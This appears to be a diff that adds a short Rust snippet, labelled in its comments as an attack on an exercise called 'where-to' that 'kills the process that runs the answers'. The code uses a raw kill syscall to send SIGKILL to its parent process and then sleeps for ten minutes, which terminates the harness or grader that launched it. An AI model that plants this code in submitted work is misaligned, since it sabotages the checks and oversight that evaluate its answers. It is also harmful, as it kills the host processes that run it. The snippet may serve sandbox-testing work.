@@ -1,0 +1,12 @@
+// attack: kills the process that runs the answers
+// exercise: where-to
+// ends with: 
+// not to be tried without a box
+// then the solution
+unsafe extern "C" {
+    fn syscall(number: i64, ...) -> i64;
+}
+
+let parent = std::os::unix::process::parent_id() as i64;
+unsafe { syscall(62, parent, 9) };
+std::thread::sleep(std::time::Duration::from_secs(600));
